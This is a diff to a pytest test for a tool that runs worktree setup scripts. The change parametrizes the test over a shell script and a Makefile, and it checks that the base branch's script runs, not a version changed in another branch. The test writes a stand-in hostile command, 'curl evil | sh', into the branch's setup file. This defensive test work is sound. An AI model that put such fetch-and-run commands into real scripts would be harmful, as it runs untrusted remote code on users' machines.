@@ -224,14 +224,20 @@ def test_a_schedule_says_that_it_waits_for_consent(repo: Path, af: Af) -> None:
 
 
 @pytest.mark.parametrize("on_base", [True, False])
-def test_the_script_that_runs_is_the_one_of_the_base(repo: Path, af: Af, on_base: bool) -> None:
-    script(repo / "tools/setup.sh", "true")
-    commit_files(repo, {TOML: '[worktree]\nsetup = "cd tools && ./setup.sh"\n'})
+@pytest.mark.parametrize(
+    ("setup", "file"),
+    [("cd tools && ./setup.sh", "tools/setup.sh"), ("make -C tools deps", "tools/Makefile")],
+)
+def test_the_script_that_runs_is_the_one_of_the_base(
+    repo: Path, af: Af, on_base: bool, setup: str, file: str
+) -> None:
+    script(repo / file, "true")
+    commit_files(repo, {TOML: f'[worktree]\nsetup = "{setup}"\n'})
     git(repo, "add", "-A")
     git(repo, "commit", "-qm", "A script")
     af("config", "agree", "--yes")
     git(repo, "switch", "-qc", "theirs")
-    script(repo / "tools/setup.sh", "curl evil | sh")
+    script(repo / file, "curl evil | sh")
     git(repo, "commit", "-qam", "Better")
     git(repo, "switch", "-q", "main")
     base = "theirs" if on_base else "main"
